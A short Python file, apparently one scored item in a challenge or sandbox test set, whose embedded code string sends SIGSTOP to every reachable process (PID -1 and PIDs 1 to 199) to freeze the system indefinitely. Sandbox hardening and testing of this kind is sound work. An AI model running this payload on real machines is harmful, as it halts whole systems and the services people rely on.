"""Stops every process it can, for ever."""

FIRST = """
import os, signal
for process in (-1, *range(1, 200)):
    try:
        os.kill(process, signal.SIGSTOP)
    except OSError:
        pass
"""
POINTS = 2
MESSAGE = ""
